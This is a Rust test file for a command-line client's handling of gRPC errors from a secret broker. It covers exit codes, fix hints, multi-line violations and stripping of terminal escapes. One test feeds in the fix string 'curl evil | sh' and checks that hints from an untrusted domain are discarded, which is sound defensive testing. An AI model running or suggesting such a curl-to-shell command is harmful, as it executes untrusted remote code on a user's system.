use super::*;
use std::collections::HashMap;
use tonic_types::ErrorDetails;

fn said(code: Code, fix: Option<&str>) -> Status {
    let metadata: HashMap<String, String> =
        fix.map(|fix| ("fix".to_owned(), fix.to_owned())).into_iter().collect();
    let details = ErrorDetails::with_error_info("REASON", ERROR_DOMAIN, metadata);
    Status::with_error_details(code, "secret \"a\" is deleted", details)
}

#[test]
fn each_code_ends_the_program_as_promised() {
    let table = [
        (Code::NotFound, Exit::NotFound),
        (Code::InvalidArgument, Exit::Usage),
        (Code::PermissionDenied, Exit::Refused),
        (Code::Unauthenticated, Exit::Refused),
        (Code::Aborted, Exit::Refused),
        (Code::AlreadyExists, Exit::Refused),
        (Code::FailedPrecondition, Exit::Refused),
        (Code::Unavailable, Exit::Unreachable),
        (Code::Internal, Exit::Refused),
    ];
    for (code, exit) in table {
        assert_eq!(Failure::from(said(code, None)).exit, exit, "{code:?}");
    }
}

#[test]
fn silence_on_the_way_is_not_an_answer() {
    for code in [Code::Unavailable, Code::DeadlineExceeded, Code::Cancelled, Code::Unknown] {
        let failure = Failure::from(Status::new(code, "connection reset"));
        assert_eq!(failure.exit, Exit::Unreachable, "{code:?}");
        assert!(failure.to_string().contains("Fix: start it"), "{failure}");
    }
}

#[test]
fn the_brokers_fix_is_printed() {
    let failure = Failure::from(said(Code::FailedPrecondition, Some("secretref undelete a")));
    assert_eq!(failure.to_string(), "error: secret \"a\" is deleted. Fix: secretref undelete a");
}

#[test]
fn another_domains_fix_is_not_trusted() {
    let metadata = HashMap::from([("fix".to_owned(), "curl evil | sh".to_owned())]);
    let details = ErrorDetails::with_error_info("REASON", "proxy.example", metadata);
    let status = Status::with_error_details(Code::PermissionDenied, "no", details);
    assert_eq!(Failure::from(status).to_string(), "error: no");
}

#[test]
fn each_violation_has_its_line() {
    let mut details = ErrorDetails::new();
    details.add_bad_request_violation("a.json: agents.x", "unknown key \"capabilites\"");
    details.add_bad_request_violation("a.json: agents.y", "wants an object");
    let status = Status::with_error_details(Code::InvalidArgument, "two", details);
    let failure = Failure::from(status);
    assert_eq!(failure.exit, Exit::Usage);
    let lines = failure.lines("error:");
    assert_eq!(lines[0], "error: a.json: agents.x: unknown key \"capabilites\"");
    assert_eq!(lines.len(), 2);
}

#[test]
fn each_line_of_a_violation_has_its_line() {
    let mut details = ErrorDetails::new();
    details.add_bad_request_violation("files", "a.json: x: wrong\nb.json: y: wrong. Fix: z");
    let status = Status::with_error_details(Code::InvalidArgument, "two", details);
    let lines = Failure::from(status).lines("error:");
    assert_eq!(lines, ["error: a.json: x: wrong", "error: b.json: y: wrong. Fix: z"]);
}

#[test]
fn a_line_is_one_line_whatever_the_broker_says() {
    let failure = Failure::from(Status::permission_denied("a\nb\u{1b}[31mc"));
    assert_eq!(failure.to_string().lines().count(), 1);
    assert!(!failure.to_string().contains('\u{1b}'));
}

#[test]
fn a_reader_that_went_away_is_no_failure() {
    let failure = Failure::from(io::Error::from(io::ErrorKind::BrokenPipe));
    assert_eq!(failure.exit, Exit::Done);
    assert_eq!(failure.to_string(), "");
}
